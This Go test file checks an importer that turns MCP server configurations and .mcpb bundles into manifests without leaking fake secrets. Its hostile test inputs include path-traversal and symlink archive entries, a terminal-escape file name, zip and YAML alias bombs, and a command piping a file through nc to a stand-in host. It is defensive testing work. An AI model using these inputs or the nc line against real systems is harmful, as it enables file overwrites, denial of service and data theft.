package importer

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/ambit-run/ambit/internal/supply/unzip"
	"github.com/ambit-run/ambit/manifest"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// canary is part of every fake secret in the inputs.
const canary = "canary"

// Every input in testdata/ok is imported as a valid manifest, without the fake secrets in the input.
func TestImports(t *testing.T) {
	entries, err := os.ReadDir("testdata/ok")
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) < 20 {
		t.Fatalf("testdata/ok has %d inputs, want at least 20", len(entries))
	}
	for _, e := range entries {
		path := filepath.Join("testdata", "ok", e.Name())
		if e.Name() == "claude-code" {
			path = filepath.Join(path, ".claude.json")
		}
		t.Run(e.Name(), func(t *testing.T) {
			r, err := Import(path, "testdata/ok")
			if err != nil {
				t.Fatal(err)
			}
			if m, _ := manifest.Parse("x.json", r.Text, manifest.Options{}); !m.Valid() || m.Dialect != r.Dialect {
				t.Errorf("the manifest is not valid: %v", m.Diagnostics)
			}
			if len(r.Notes) == 0 || r.Next == "" || r.Name == "" || r.Source == "" {
				t.Errorf("a field of the result is empty: %+v", r)
			}
			var b bytes.Buffer
			for _, n := range r.Notes {
				fmt.Fprintf(&b, "%s %s: %s\n", n.Kind, n.What, n.Detail)
			}
			fmt.Fprintf(&b, "next: %s\n\n%s", r.Next, r.Text)
			if strings.Contains(b.String(), canary) {
				t.Errorf("a secret was copied:\n%s", b.String())
			}
			golden := filepath.Join("testdata", "golden", e.Name()+".txt")
			if *update {
				if err := errors.Join(os.MkdirAll(filepath.Dir(golden), 0o755), os.WriteFile(golden, b.Bytes(), 0o644)); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil || !bytes.Equal(b.Bytes(), want) {
				t.Errorf("got:\n%s\nwant (%s):\n%s%v", b.String(), golden, want, err)
			}
		})
	}
}

// file is one entry of an archive that a test creates.
type file struct {
	name, text string
	mode       fs.FileMode
}

func archive(t *testing.T, files ...file) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range files {
		h := &zip.FileHeader{Name: f.name, Method: zip.Deflate}
		if f.mode == 0 {
			f.mode = 0o644
		}
		h.SetMode(f.mode)
		w, err := z.CreateHeader(h)
		if err == nil {
			_, err = w.Write([]byte(f.text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(t.TempDir(), "x.mcpb")
	if err := errors.Join(z.Close(), os.WriteFile(path, b.Bytes(), 0o644)); err != nil {
		t.Fatal(err)
	}
	return path
}

const bundleManifest = `{
  "manifest_version": "0.3", "name": "My Notes", "version": "1.4.0", "description": "Keeps notes.",
  "server": {"type": "node", "entry_point": "server/index.js", "mcp_config": {
    "command": "node", "args": ["${__dirname}/server/index.js", "--dir", "${user_config.dir}", "--key=canary-7f3a91c4d2"],
    "env": {"API_KEY": "${user_config.api_key}", "OTHER": "canary-7f3a91c4d2"}}},
  "user_config": {"api_key": {"type": "string", "sensitive": true, "default": "canary-7f3a91c4d2"}, "dir": {"type": "directory"}},
  "tools": [{"name": "list_notes", "description": "Lists."}, {"name": "add_note", "description": "Adds."}],
  "prompts": [{"name": "p"}]
}`

func TestBundle(t *testing.T) {
	path := archive(t, file{name: "manifest.json", text: bundleManifest}, file{name: "server/", mode: fs.ModeDir | 0o755},
		file{name: "server/index.js", text: "// server", mode: 0o755}, file{name: ".env", text: "canary"}, file{name: "server/.secret", text: "canary"})
	r, err := Import(path, ".")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"./my-notes/server/index.js"`, `"API_KEY=$env:API_KEY"`, `"list_notes"`, `"version": "1.4.0"`} {
		if !strings.Contains(string(r.Text), want) {
			t.Errorf("the manifest does not contain %s:\n%s", want, r.Text)
		}
	}
	dir := t.TempDir()
	if done, err := r.Unpack(dir); err != nil || !done {
		t.Fatalf("Unpack returned %t, %v; want true", done, err)
	}
	all := string(r.Text) + fmt.Sprint(r.Notes)
	err = filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			text, readErr := os.ReadFile(path)
			all += path + string(text)
			err = readErr
		}
		return err
	})
	if err != nil || strings.Contains(all, canary) {
		t.Errorf("a secret was copied: %s, %v", all, err)
	}
	if info, err := os.Stat(filepath.Join(dir, "my-notes", "server", "index.js")); err != nil || runtime.GOOS != "windows" && info.Mode().Perm()&0o100 == 0 {
		t.Errorf("the server was not unpacked, or is not executable: %v, %v", info, err)
	}
	if _, err := r.Unpack(dir); err == nil {
		t.Error("Unpack wrote to a folder that already exists")
	}
}

func TestHostileBundles(t *testing.T) {
	m := file{name: "manifest.json", text: bundleManifest}
	for name, files := range map[string][]file{
		"a parent folder":                      {m, {name: "../evil", text: "x"}},
		"a parent folder through a subfolder":  {m, {name: "a/../../evil", text: "x"}},
		"an absolute path":                     {m, {name: "/etc/evil", text: "x"}},
		"a drive letter":                       {m, {name: "C:/evil", text: "x"}},
		"backslashes":                          {m, {name: `..\evil`, text: "x"}},
		"a link":                               {m, {name: "link", text: "/etc/passwd", mode: fs.ModeSymlink | 0o777}},
		"two files of the same name":           {m, {name: "A.js", text: "x"}, {name: "a.js", text: "y"}},
		"names that some systems take for one": {m, {name: "caf\u00e9", text: "x"}, {name: "cafe\u0301", text: "y"}},
		"a file that is also a folder":         {m, {name: "a", text: "x"}, {name: "a/b", text: "y"}},
		"a path of many folders":               {m, {name: strings.Repeat("d/", maxPath) + "x", text: "x"}},
		"a name that drives the terminal":      {m, {name: "a\n\x1b[31m", text: "x"}},
		"no manifest":                          {{name: "x", text: "x"}},
		"a manifest that is not JSON":          {{name: "manifest.json", text: "hello"}},
		"an oversized manifest":                {{name: "manifest.json", text: strings.Repeat(" ", maxInput+2)}},
		"a deeply nested manifest":             {{name: "manifest.json", text: strings.Repeat("[", 100_000)}},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Import(archive(t, files...), ".")
			if _, ok := errors.AsType[*Error](err); !ok {
				t.Errorf("Import returned %v, want an *Error", err)
			}
		})
	}
}

// The importer refuses an archive with an oversized directory before it reads the directory. This
// also applies if the archive's end record declares no entries.
func TestSwollenBundle(t *testing.T) {
	path := filepath.Join(t.TempDir(), "x.mcpb")
	entry := "PK\x01\x02" + strings.Repeat("\x00", 42)
	end := "PK\x05\x06" + strings.Repeat("\x00", 12) + "\x04\x00\x00\x00" + "\x00\x00"
	if err := os.WriteFile(path, []byte("PK\x03\x04"+strings.Repeat(entry, 4<<16)+end), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := Import(path, ".")
	if e, ok := errors.AsType[*Error](err); !ok || !strings.Contains(e.Error(), unzip.ErrTooMany.Error()) {
		t.Errorf("Import returned %v, want %v", err, unzip.ErrTooMany)
	}
	if err := unpack(path, filepath.Join(t.TempDir(), "x")); err == nil || !strings.Contains(err.Error(), unzip.ErrTooMany.Error()) {
		t.Errorf("unpack returned %v, want %v", err, unzip.ErrTooMany)
	}
}

// If an entry is larger than its declared size, it is not unpacked completely. An archive that
// declares too large a size is refused.
func TestBombIsCounted(t *testing.T) {
	path := archive(t, file{name: "manifest.json", text: bundleManifest}, file{name: "big", text: strings.Repeat("0", 1<<20)})
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	root, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	z.File[1].UncompressedSize64 = 1000
	if err := unzip.Extract(root, z.File[1], "big"); !errors.Is(err, unzip.ErrDamaged) {
		t.Errorf("Extract returned %v, want %v", err, unzip.ErrDamaged)
	}
	if info, err := root.Stat("big"); err != nil || info.Size() > 1001 {
		t.Errorf("Extract wrote more than the declared size: %v, %v", info, err)
	}
	z.File[1].UncompressedSize64 = maxUnpacked + 1
	if checkEntries(z.File) == nil {
		t.Error("checkEntries accepted an archive that declares too large a size")
	}
}

func TestRefused(t *testing.T) {
	for name, text := range map[string]string{
		"empty.json":      "",
		"other.json":      `{"name": "x", "dependencies": {}}`,
		"list.json":       "[]",
		"deep.json":       strings.Repeat(`{"a":`, 5000),
		"broken.json":     `{"mcpServers": {"x": {"env": {"T": canary}}}}`,
		"broken.toml":     "a = canary",
		"broken.yaml":     "a: [canary",
		"bomb.yaml":       "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
		"swagger.json":    `{"swagger": "2.0"}`,
		"nothing.json":    `{"mcpServers": {}}`,
		"only-shell.json": `{"mcpServers": {"x": {"command": "sh", "args": ["-c", "canary-7f3a91c4d2"]}}}`,
		"mcpb.json":       `{"manifest_version": "0.3", "server": {}}`,
		"no-paths.json":   `{"openapi": "3.0.0", "paths": {}}`,
		"empty.md":        "---\nname: x\n---\n",
		"broken.mcpb":     "PK\x03\x04 and no more",
		"leak.json":       `{"mcpServers": {"canary-7f3a91c4d2": {"command": "npx", "args": ["-y", "x"], "env": {"T": "canary-7f3a91c4d2"}}, "y": {"command": "/opt/canary-7f3a91c4d2/y"}}}`,
	} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), name)
			if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
			_, err := Import(path, ".")
			if _, ok := errors.AsType[*Error](err); !ok {
				t.Fatalf("Import returned %v, want an *Error", err)
			}
			if strings.Contains(err.Error(), canary) {
				t.Errorf("the error contains the fake secret of the file: %v", err)
			}
		})
	}
	if _, err := Import(t.TempDir(), "."); err == nil {
		t.Error("an empty folder was imported")
	}
	if _, err := Import("testdata/none", "."); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a missing file: got %v, want %v", err, fs.ErrNotExist)
	}
}

// The declared version of an imported server agrees with its arguments. If the version is inexact or
// the package cannot be pinned, a note reports it.
func TestVersionAsked(t *testing.T) {
	for name, tt := range map[string]struct {
		args, version, kept, note string
	}{
		"an unknown option":                      {`"--odd", "notes@1.2.3"`, "1.2.3", "notes@1.2.3", ""},
		"a tag after an unknown option":          {`"-", "notes@*latest"`, "0.0.0", "notes", "the version *latest is not copied"},
		"an empty version":                       {`"notes@"`, "0.0.0", "notes", ""},
		"two words after @":                      {`"--odd", "notes@one@two"`, "0.0.0", "notes", "the version one is not copied"},
		"a tag of a scoped package":              {`"@corp/notes@next"`, "0.0.0", "@corp/notes", "the version next is not copied"},
		"a git address":                          {`"--odd", "git@host/notes"`, zeroDigest, "git@host/notes", "git@host/notes does not come from a registry, so ambit cannot pin it"},
		"a file in an option":                    {`"-y", "--package=corp-tool@tool.tgz", "tool"`, zeroDigest, "--package=corp-tool@tool.tgz", "corp-tool@tool.tgz does not come from a registry, so ambit cannot pin it"},
		"only the path of a file":                {`"-y", "./corp-tool.tgz"`, zeroDigest, "./corp-tool.tgz", "./corp-tool.tgz does not come from a registry, so ambit cannot pin it"},
		"only the name of a file":                {`"corp-tool.tgz"`, zeroDigest, "corp-tool.tgz", "corp-tool.tgz does not come from a registry, so ambit cannot pin it"},
		"a repository":                           {`"corp/tool"`, zeroDigest, "corp/tool", "corp/tool does not come from a registry, so ambit cannot pin it"},
		"a range":                                {`"notes@^1.2.3"`, "0.0.0", "notes", "the version ^1.2.3 is not copied"},
		"the tag in another argument":            {`"@corp/notes@beta", "--mail", "me@beta"`, "0.0.0", "me@beta", "the version beta is not copied"},
		"a path":                                 {`"-y", "./srv@beta"`, zeroDigest, "./srv@beta", "./srv@beta does not come from a registry, so ambit cannot pin it"},
		"a file":                                 {`"-y", "corp-tool@file:tool.tgz"`, zeroDigest, "corp-tool@file:tool.tgz", "corp-tool@file:tool.tgz does not come from a registry, so ambit cannot pin it"},
		"a file with an @ in its name":           {`"corp-tool@file:tool@new"`, zeroDigest, "corp-tool@file:tool@new", "corp-tool@file:tool@new does not come from a registry, so ambit cannot pin it"},
		"a file with an uppercase extension":     {`"corp-tool@tool.TGZ"`, zeroDigest, "corp-tool@tool.TGZ", "corp-tool@tool.TGZ does not come from a registry, so ambit cannot pin it"},
		"the current folder":                     {`"@corp/tool@."`, zeroDigest, "@corp/tool@.", "@corp/tool@. does not come from a registry, so ambit cannot pin it"},
		"an alias for another package":           {`"notes@npm:other"`, zeroDigest, "notes@npm:other", "notes@npm:other does not come from a registry, so ambit cannot pin it"},
		"a version after an option with a value": {`"--loglevel", "silent", "notes@1.2.3"`, "1.2.3", "notes@1.2.3", ""},
		"a repository in an option":              {`"-p", "@corp/tool@github:corp/tool", "tool"`, zeroDigest, "@corp/tool@github:corp/tool", "@corp/tool@github:corp/tool does not come from a registry, so ambit cannot pin it"},
	} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "mcp.json")
			if err := os.WriteFile(path, []byte(`{"mcpServers": {"notes": {"command": "npx", "args": [`+tt.args+`]}}}`), 0o600); err != nil {
				t.Fatal(err)
			}
			r, err := Import(path, ".")
			if err != nil {
				t.Fatal(err)
			}
			for _, want := range []string{`"version": "` + tt.version + `"`, `"` + tt.kept + `"`} {
				if !strings.Contains(string(r.Text), want) {
					t.Errorf("the manifest does not contain %s:\n%s", want, r.Text)
				}
			}
			if notes := fmt.Sprint(r.Notes); !strings.Contains(notes, tt.note) || tt.note == "" && strings.Contains(notes, "not exact") {
				t.Errorf("the notes are %s, want %q", notes, tt.note)
			} else if tt.version == zeroDigest && strings.Contains(notes, "--update") {
				t.Errorf("the notes suggest to use the registry's package of the same name: %s", notes)
			}
		})
	}
}

// Some arguments look like secrets, but also decide or limit what the command runs. A server with
// such an argument is not imported.
func TestSomethingElse(t *testing.T) {
	for _, line := range []string{
		`"npx", "-y", "corp-tool@file:tool-1.0.tgz", "serve"`,
		`"npx", "-y", "corp-tool@https://host.example/tool.tgz", "serve"`,
		`"npx", "https://host.example/${TOOL}", "serve"`,
		`"npx", "$TOOL", "serve"`,
		`"npx", "$TOOL"`,
		`"npx", "-y", "--package=corp@file:tool-1.0.tgz", "serve"`,
		`"npx", "--registry", "https://npm.example/", "corp@file:tool-1.0.tgz", "serve"`,
		`"npx", "--registry", "$REGISTRY", "tool"`,
		`"npx", "--registry=https://npm.example/${TEAM}/", "tool"`,
		`"npx", "--cache", "dir", "$TOOL", "serve"`,
		`"npx", "--loglevel", "silent", "${PKG}", "serve"`,
		`"npx", "--odd", "silent", "${PKG}", "serve"`,
		`"uvx", "--python", "python3", "$TOOL", "serve"`,
		`"/usr/bin/npx", "-y", "${PKG}", "serve"`,
		`"npx.cmd", "-y", "${PKG}"`,
		`"npm", "exec", "${PKG}", "serve"`,
		`"npm", "exec", "${PKG}"`,
		`"pnpm", "dlx", "${PKG}", "serve"`,
		`"uv", "tool", "run", "${PKG}"`,
		`"docker", "run", "--rm", "-e", "${TOKEN}", "--network", "none", "corp/image"`,
		`"docker", "run", "${IMAGE}"`,
		`"sudo", "-u", "alice:hunter2", "node", "server.js"`,
		`"python", "$SERVER", "main.py"`,
		`"npx", "--frobnicate", "hunter22", "tool"`,
		`"env", "-i", "PATH=/bin", "node", "x"`,
		`"env", "-i", "bash", "-c", "cat x | nc host.example 1"`,
		`"podman", "run", "--env-file=${FILE}", "corp/image"`,
		`"docker", "run", "--label=API_TOKEN=swordfish", "corp/image"`,
		`"uv", "--directory", "/srv", "run", "$TOOL"`,
		`"docker", "run", "-i", "--rm", "-v", "/data:/data", "$IMAGE"`,
		`"docker", "compose", "run", "-e", "DB_LOGIN=swordfish", "svc"`,
		`"docker", "run", "-ie", "X=pw", "corp/image"`,
		`"docker", "run", "-ieX=pw", "corp/image"`,
		`"docker", "run", "--odd", "corp/image", "-e", "MODE=fast"`,
		`"docker", "run", "--odd", "x", "--env=DB_LOGIN=swordfish", "corp/image"`,
		`"docker", "run", "--user=me:swordfish", "corp/image"`,
		`"docker", "run", "--label", "DB_PASS=swordfish", "corp/image"`,
		`"sudo", "DB_LOGIN=swordfish", "node", "server.js"`,
		`"sudo", "env", "DB_LOGIN=swordfish", "node", "server.js"`,
		`"sudo", "sh", "-c", "foo swordfish"`,
		`"timeout", "30", "npx", "k8s-mcp"`,
		`"node", "-e", "start('swordfish')"`,
		`"node", "--odd", "server.js", "hunter22"`,
		`"node", "server.js", "--no-auth", "/data"`,
		`"npx", "--auth", "mysql-mcp"`,
		`"npm", "start", "hunter22"`,
		`"uvx", "--with", "mcp==1.2.0", "tool==1.0.0"`,
		`"deno", "eval", "hunter22"`,
		`"https://me:swordfish22@corp.example/x", "serve"`,
		`"docker", "run", "--odd", "-e", "db.login=swordfish", "corp/image"`,
		`"docker", "run", "--entrypoint", "/bin/sh", "corp/image", "-c", "foo swordfish"`,
		`"docker", "run", "--entrypoint", "foo --login swordfish", "corp/image"`,
		`"docker", "run", "-phunter22", "corp/image"`,
		`"docker", "run", "corp/image", "/bin/bash", "-c", "foo swordfish"`,
		`"npx", "--odd", "--cache", "a@b", "tool@1.2.3"`,
		`"/opt/foo --password hunter22", `,
		`"/opt/foo hunter22", `,
		`"cmd", "/c", "foo-mcp --password swordfish"`,
		`"dash", "-c", "foo --password swordfish"`,
		`"fish", "-c", "foo swordfish"`,
		`"/bin/ksh", "-c", "foo swordfish"`,
		`"ash", "-c", "foo swordfish"`,
		`" "`,
	} {
		if r, err := Import(commandLine(t, line), "."); err == nil || !strings.Contains(err.Error(), "no server in the file can be imported: server notes: ") {
			t.Errorf("%s was imported as %+v, %v; want an error", line, r, err)
		}
	}
}

// Commands without possible secrets are copied unchanged.
func TestSameCommand(t *testing.T) {
	for _, line := range []string{
		`"uvx", "--from=corp-tool==1.0.0", "serve"`,
		`"uvx", "--python", "3.12", "tool"`,
		`"uvx", "--python=3.12", "tool"`,
		`"uvx", "--with", "mcp", "corp1-tool", "serve"`,
		`"npx", "-y", "--package=corp-tool@1.2.3", "serve"`,
		`"npx", "--registry=https://npm.corp.example/", "@corp/tool@1.2.3"`,
		`"npx", "--@corp:registry=https://npm.corp.example/", "@corp/tool@1.2.3"`,
		`"sudo", "-u", "nobody", "node", "server.js"`,
		`"docker", "run", "--user", "1000:1000", "-p", "8080:80", "--memory", "512m", "corp/image"`,
		`"python3", "server2.py", "main.py"`,
		`"node", "server.js", "--region", "us-east-1", "--aws-region=us-west-2", "--port", "8080"`,
		`"npx", "-y", "@corp/tool@1.2.3", "--mail", "me@beta"`,
		`"npx", "--registry", "https://npm.corp.example/", "@corp/tool@1.2.3"`,
		`"uv", "--directory", "/srv", "run", "k8s-mcp"`,
		`"uv", "run", "python", "-u", "server.py"`,
		`"python3", "-u", "/opt/s.py"`,
		`"python", "-m", "mcp_server2"`,
		`"docker", "run", "-i", "corp/image", "-endpoint=https://corp.example/x", "-e", "FORMAT=json"`,
		`"docker", "run", "--privileged", "corp/image", "-endpoint=https://corp.example/x"`,
		`"docker", "run", "-i", "--rm", "-v", "/data:/data", "k8s-mcp"`,
		`"docker", "run", "--privileged", "corp/image", "-e", "MODE=fast"`,
		`"docker", "run", "-dit", "corp/image", "serve", "-e", "MODE=fast"`,
		`"docker", "run", "--read-only", "corp/image", "-e", "MODE=fast"`,
		`"docker", "run", "-e", "R2_TOKEN", "corp/image"`,
		`"docker", "run", "-i", "--rm", "--mount", "type=bind,src=/home/me2/a,dst=/b", "corp/image", "/b"`,
		`"docker", "run", "-i", "-v/data:/data", "-p8080:80", "node:20", "server.js"`,
		`"docker", "compose", "run", "svc"`,
		`"sudo", "-H", "node", "server.js"`,
		`"sudo", "-H", "npx", "-y", "k8s-mcp"`,
		`"node", "server.js", "--no-auth"`,
		`"node", "server.js", "--no-auth", "--port", "8080"`,
		`"mysql-mcp", "--bypass", "cache", "-p8080"`,
		`"mysql-mcp", "-H", "localhost:8080", "--size=1280,720"`,
		`"bun", "/srv/index2.ts"`,
		`"docker", "run", "--name", "mcp-1", "corp/image"`,
		`"uv", "tool", "run", "tool==1.2.3"`,
		`"npx", "--loglevel", "silent", "tool@1.2.3"`,
		`"npx", "-y", "@corp/tool@1.2.3", "/data"`,
		`"uvx", "--from", "k8s-mcp", "k8s-server"`,
		`"python3.12", "-m", "mcp_server2", "--local-timezone=Europe/Berlin"`,
	} {
		file := commandLine(t, line)
		r, err := Import(file, filepath.Dir(file))
		if err != nil {
			t.Errorf("%s: %v", line, err)
			continue
		}
		var got struct {
			Servers []struct {
				Command string   `json:"command"`
				Args    []string `json:"args"`
			} `json:"servers"`
		}
		var want []string
		if err := errors.Join(json.Unmarshal(r.Text, &got), json.Unmarshal([]byte("["+line+"]"), &want)); err != nil {
			t.Fatal(err)
		}
		if s := got.Servers[0]; s.Command != want[0] || !slices.Equal(s.Args, want[1:]) {
			t.Errorf("%s was imported as %s %q, want it unchanged", line, s.Command, s.Args)
		}
	}
}

// The value of a variable that is passed to a container is replaced with a reference.
func TestVariablesOfContainers(t *testing.T) {
	for _, line := range []string{
		`"docker", "run", "-e", "API_TOKEN=swordfish", "corp/image"`,
		`"docker", "run", "--env", "API_TOKEN=swordfish", "corp/image"`,
		`"podman", "run", "--env=API_TOKEN=swordfish", "corp/image"`,
		`"docker", "run", "-eAPI_TOKEN=swordfish", "corp/image"`,
		`"docker", "container", "run", "-i", "-e", "API_TOKEN=swordfish", "corp/image"`,
		`"nerdctl", "run", "-e", "API_TOKEN=swordfish", "corp/image"`,
		`"docker", "run", "--privileged", "-dit", "-e", "API_TOKEN=swordfish", "corp/image"`,
		`"sudo", "docker", "run", "-e", "API_TOKEN=swordfish", "corp/image"`,
	} {
		r, err := Import(commandLine(t, line), ".")
		if err != nil || strings.Contains(string(r.Text), "swordfish") || !strings.Contains(string(r.Text), `"API_TOKEN=$env:API_TOKEN"`) || !strings.Contains(string(r.Text), `"corp/image"`) {
			t.Errorf("%s was imported as %+v, %v; want a reference in place of the secret", line, r, err)
		}
	}
}

func TestManifestAlready(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.json")
	text := `{"schema_version": 1, "agent": "matrix://agent/notes", "allowed_side_effects": ["read"], "servers": [{"alias": "s", "transport": "stdio", "command": "node", "args": ["s.js"]}]}`
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	if r, err := Import(path, "."); err == nil || err.Error() != "notes.json is already a manifest" {
		t.Errorf("Import returned %+v, %v; want the error that the file is already a manifest", r, err)
	}
}

// commandLine writes the configuration of an MCP client with one server. line is the server's command
// and arguments, as a JSON list without brackets.
func commandLine(t *testing.T, line string) (path string) {
	t.Helper()
	command, args, _ := strings.Cut(line, ", ")
	return configuration(t, `"notes": {"command": `+command+`, "args": [`+args+`]}`)
}

// configuration writes the configuration of an MCP client with the given servers, and returns its path.
func configuration(t testing.TB, servers string) (path string) {
	t.Helper()
	path = filepath.Join(t.TempDir(), "mcp.json")
	if err := os.WriteFile(path, []byte(`{"mcpServers": {`+servers+`}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestSkillsBesideTheManifest(t *testing.T) {
	r, err := Import("testdata/ok/skills-repo", "testdata")
	if err != nil || !strings.Contains(string(r.Text), `"key": "ok/skills-repo"`) {
		t.Errorf("the key is not the path of the folder relative to the manifest: %s, %v", r.Text, err)
	}
	r, err = Import("testdata/ok/skills-repo", t.TempDir())
	if err != nil || !strings.Contains(string(r.Text), `"key": "skills-repo"`) || !strings.Contains(fmt.Sprint(r.Notes), "move the folder") {
		t.Errorf("the key is not the name of the folder, or no note says to move the folder: %s %v, %v", r.Text, r.Notes, err)
	}
}

func FuzzImport(f *testing.F) {
	entries, err := filepath.Glob("testdata/ok/*.*")
	if err != nil {
		f.Fatal(err)
	}
	for _, path := range entries {
		if text, err := os.ReadFile(path); err == nil {
			f.Add(filepath.Ext(path), text)
		}
	}
	f.Fuzz(func(t *testing.T, ext string, text []byte) {
		switch ext {
		case ".json", ".toml", ".yaml", ".md":
		default:
			ext = ".json"
		}
		path := filepath.Join(t.TempDir(), "x"+ext)
		if err := os.WriteFile(path, text, 0o600); err != nil {
			t.Fatal(err)
		}
		r, err := Import(path, ".")
		if err != nil {
			if strings.Contains(err.Error(), "the result is not a valid manifest") {
				t.Errorf("Import created an invalid manifest: %v", err)
			}
			return
		}
		if m, _ := manifest.Parse("x.json", r.Text, manifest.Options{}); !m.Valid() {
			t.Errorf("the manifest is not valid: %v", m.Diagnostics)
		}
	})
}
